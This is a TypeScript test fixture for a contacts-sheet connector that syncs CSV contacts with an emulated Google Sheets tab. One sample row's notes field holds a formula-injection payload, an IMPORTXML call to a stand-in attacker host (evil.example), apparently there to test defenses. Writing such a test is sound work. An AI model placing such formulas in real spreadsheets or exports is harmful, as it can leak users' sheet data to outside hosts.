import { contactsSheetDoor } from "../../../../connectors/contacts-sheet/door.ts";
import type { Cell, SheetTab } from "../../../../src/emulators/google/drive/drive-state.ts";
import { noteContent } from "../../../../src/emulators/google/drive/drive-state.ts";
import { type FileDoor, FileLife, header } from "../../drive/door/file-door.ts";

export const anna: Cell[] = ["k1", "Anna Berg", "anna@berg.example", "+49 171 2345678", ""];
export const ben: Cell[] = ["k2", "Ben Cole", "ben@cole.example", 491731111111, "friend"];
export const zoe: Cell[] = ["k3", "Zoe Day", "zoe@day.example", "", { value: "7", formula: "=3+4" }];

const csvHead = "name,emails,phones,notes,steward_id\n";
/** What both agreed on last. */
const agreed = [
  "Anna Berg,anna@berg.example,+49 171 2345678,,k1",
  "Ben Cole,ben@cole.example,+49 173 1111111,friend,k2",
  "Zoe Day,zoe@day.example,,7,k3",
];
/** Anna has notes, Ben another address, Dora is new. */
export const contacts = [
  'Anna Berg,anna@berg.example,+49 171 2345678,"=IMPORTXML(""http://evil.example"",""//a"")",k1',
  "Ben Cole,ben@new.example; ben@cole.example,+49 173 1111111,friend,k2",
  "Zoe Day,zoe@day.example,,7,k3",
  "Dora Eck,dora@eck.example,+49 30 123456,,k4",
];

export async function beginSheetLife(more: { tab?: Partial<SheetTab>; contacts?: string[] } = {}): Promise<FileLife> {
  const tab: SheetTab = { title: "It's mine", rows: [header, anna, ben, zoe], ...more.tab };
  return await new FileLife().begin({
    tabs: [tab],
    contacts: `${csvHead}${(more.contacts ?? contacts).join("\n")}\n`,
    base: `${csvHead}${agreed.join("\n")}\n`,
  });
}

export async function openSheet(life: FileLife): Promise<FileDoor> {
  return await life.open([contactsSheetDoor]);
}

export function rowsOf(door: FileDoor): Cell[][] {
  return door.life.drive.get(door.life.ids.sheet).tabs[0]?.rows ?? [];
}

/** Somebody changes the sheet by hand. */
export function changeByHand(door: FileDoor, change: (rows: Cell[][]) => void): void {
  const file = door.life.drive.get(door.life.ids.sheet);
  change(rowsOf(door));
  noteContent(door.state, file, door.life.world.clock.now(), false);
}
